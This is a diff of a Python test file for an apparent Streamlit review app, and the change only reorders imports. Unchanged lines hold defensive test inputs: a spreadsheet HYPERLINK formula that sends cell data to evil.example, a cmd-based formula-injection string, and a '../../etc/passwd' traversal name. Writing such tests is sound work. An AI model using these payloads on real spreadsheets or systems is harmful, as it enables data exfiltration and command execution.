@@ -14,11 +14,10 @@ from streamlit.testing.v1 import AppTest
 
 from conftest import sign_in
 from rsad.data import uploads
-from rsad.model import versions
-from rsad.review import export
-from rsad.review import verdicts
 from rsad.data.csvsafe import FORMULA_START
 from rsad.data.ingest import load_batch
+from rsad.model import versions
+from rsad.review import export, verdicts
 
 APP = str(Path(__file__).resolve().parents[1] / "app.py")
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3 orders at night",
@@ -149,8 +148,9 @@ def test_batch_names_and_analysts_are_checked(store, env):
     assert info["name"] == "../../etc/passwd"  # a label in the store, never a path
     assert sorted(p.name for p in env.rglob("*")) == before
     with store.session() as s:
-        from rsad.data.orm import Case
         from sqlalchemy import select
+
+        from rsad.data.orm import Case
 
         case_id = s.scalar(select(Case.id))
     with pytest.raises(InputError, match="at most 200 characters"):
